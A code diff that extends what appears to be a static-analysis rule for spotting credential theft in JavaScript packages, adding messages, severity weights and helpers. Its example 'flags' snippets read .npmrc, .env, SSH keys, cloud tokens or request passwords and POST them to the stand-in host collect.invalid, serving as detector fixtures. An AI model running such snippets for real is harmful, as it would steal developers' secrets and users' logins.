@@ -1,5 +1,6 @@
-import { defineRule, oddTargetOf, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
-import type { LabelKind } from '../src/types.js';
+import { defineRule, fixedTargetOf, oddTargetOf, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
+import type { AnyNode, Call, FileContext, Label, LabelKind } from '../src/types.js';
+import { isServed } from '../src/vocabulary/apis.js';
 
 /** Which message tells of which origin; the first that fits is told. */
 const MESSAGES: readonly (readonly [LabelKind, string])[] = [
@@ -19,12 +20,28 @@ export default defineRule({
       wallet: 'Sends wallet data ({what}) through {sink}',
       browser: 'Sends {what} through {sink}',
       credentials: 'Sends {what} through {sink}',
+      shipped: 'Sends {what} to an address fixed in its code through {sink}',
+      settings: 'Sends {what}, which holds secrets, to an address fixed in its code through {sink}',
+      login: 'Sends the password out of a request that it serves to an address fixed in its code',
+      several: 'Sends {count} secrets of the environment to an address fixed in its code: {what}',
       clipboard: 'Sends what is on the clipboard through {sink}',
       file: 'Sends the content of a file to {address} through {sink}',
       authorises: 'Says who it is with {what} through {sink}',
       variable: 'Sends the secret {what} through {sink}',
     },
-    bits: { wallet: 14, browser: 14, credentials: 12, clipboard: 7, variable: 2, file: 7, authorises: 1.5 },
+    bits: {
+      wallet: 14,
+      browser: 14,
+      credentials: 12,
+      shipped: 13.5,
+      settings: 12,
+      login: 10,
+      several: 12,
+      clipboard: 7,
+      variable: 2,
+      file: 7,
+      authorises: 1.5,
+    },
   },
   examples: {
     flags: [
@@ -33,11 +50,31 @@ export default defineRule({
         code: `const fs = require('fs'), os = require('os'), path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nfetch('https://collect.invalid', { method: 'POST', body: rc });`,
       },
       {
+        title: 'a handler passes logins on to a place of its own',
+        code: `module.exports = (req, res, next) => {\n  fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ p: req.body.password }) });\n  next();\n};`,
+      },
+      {
+        title: 'the project’s settings are sent',
+        code: `const fs = require('fs');\nfetch('https://collect.invalid', { method: 'POST', body: fs.readFileSync(process.cwd() + '/.env', 'utf8') });`,
+      },
+      {
+        title: 'tokens of several services leave together',
+        code: `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify([process.env.NPM_TOKEN, process.env.AWS_SECRET_ACCESS_KEY]) });`,
+      },
+      {
+        title: 'what is found is listed, and the list sent as one text',
+        code: `const fs = require('fs'), list = [];\nconst text = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');\nfor (const token of text.match(/npm_\\w+/g) || []) if (!list.includes(token)) list.push(token);\nfetch('https://collect.invalid', { method: 'POST', body: list.join(',') });`,
+      },
+      {
         title: 'SSH keys leave from a callback',
         code: `const fs = require('fs');\nfs.readFile(process.env.HOME + '/.ssh/id_rsa', (error, key) => {\n  require('https').request('https://collect.invalid', { method: 'POST' }).end(key);\n});`,
       },
     ],
     passes: [
+      {
+        title: 'a login is passed on to a server that is configured',
+        code: `module.exports = (req, res, next) => {\n  fetch(process.env.LOGIN_SERVER, { method: 'POST', body: JSON.stringify({ password: req.body.password }) }).then(() => next());\n};`,
+      },
       {
         title: 'a request is signed with the key of a credential file',
         code: `const fs = require('fs'), os = require('os'), path = require('path'), aws4 = require('aws4');\nconst text = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\nconst signed = aws4.sign({ host: 's3.invalid', path: '/' }, { secretAccessKey: text.split('=')[1] });\nrequire('https').request({ host: signed.host, path: signed.path, headers: signed.headers });`,
@@ -57,9 +94,16 @@ export default defineRule({
       for (const [kind, messageId] of MESSAGES) {
         const label = labels.find(one => one.kind === kind);
         if (!label) continue;
+        const several = messageId === 'variable' ? severalOf(labels) : [];
+        const fixed = /^(?:credentials|variable)$/.test(messageId) && fixedTargetOf(context, call) !== undefined;
         context.report({
-          messageId,
-          data: { what: label.detail, sink: call.name },
+          messageId:
+            fixed && messageId === 'credentials' ? 'shipped' : fixed && several.length >= 2 ? 'several' : messageId,
+          data: {
+            what: several.length >= 2 ? several.join(', ') : label.detail,
+            sink: call.name,
+            count: several.length,
+          },
           chain: [...stepsOf(label), step('sink', sinkSays(call), context.file, call.node)],
         });
         break;
@@ -70,6 +114,22 @@ export default defineRule({
           messageId: 'authorises',
           data: { what: own.detail, sink: call.name },
           chain: [...stepsOf(own), step('sink', sinkSays(call), context.file, call.node)],
+        });
+      const settings = labels.find(({ kind, detail }) => kind === 'file' && SETTINGS.test(detail));
+      if (settings && fixedTargetOf(context, call) !== undefined)
+        context.report({
+          messageId: 'settings',
+          data: { what: settings.detail, sink: call.name },
+          chain: [...stepsOf(settings), step('sink', sinkSays(call), context.file, call.node)],
+        });
+      const password = passwordIn(context, call);
+      if (password)
+        context.report({
+          messageId: 'login',
+          chain: [
+            step('source', 'takes a password out of a request', context.file, password),
+            step('sink', sinkSays(call), context.file, call.node),
+          ],
         });
       const file = labels.find(({ kind }) => kind === 'file');
       const address = file && oddTargetOf(context, call);
@@ -82,3 +142,34 @@ export default defineRule({
     }
   },
 });
+
+/** Files in which projects keep their secrets. */
+const SETTINGS = /\.env(?:\.\w{1,20})?$|\.(?:pem|key|p12|pfx)$/;
+
+/** The secrets of several services, which no one service is asked with. */
+function severalOf(labels: readonly Label[]): readonly string[] {
+  const names = [...new Set(labels.filter(({ kind }) => kind === 'secret').map(({ detail }) => detail))];
+  return new Set(names.map(name => name.split('_', 1)[0])).size >= 2 ? names : [];
+}
+
+/** Where what is sent takes a password out of a request that somebody made of this program. */
+function passwordIn(context: FileContext, call: Call): AnyNode | undefined {
+  if (!context.labelsOf(call.args[1] ?? call.node).some(isAsked) || fixedTargetOf(context, call) === undefined)
+    return undefined;
+  const start = call.node.start ?? call.node.range?.[0] ?? 0;
+  const end = call.node.end ?? call.node.range?.[1] ?? 0;
+  return context.nodes('MemberExpression').find(node => {
+    const at = node.start ?? node.range?.[0] ?? 0;
+    if (at < start || at >= end) return false;
+    const { property, computed } = node as unknown as { property: AnyNode; computed: boolean };
+    return (
+      !computed &&
+      /^(?:password|passwd|pwd)$/.test((property as { name?: string }).name ?? '') &&
+      context.labelsOf(node).some(isAsked)
+    );
+  });
+}
+
+function isAsked({ kind, detail }: Label): boolean {
+  return kind === 'remote' && isServed(detail);
+}
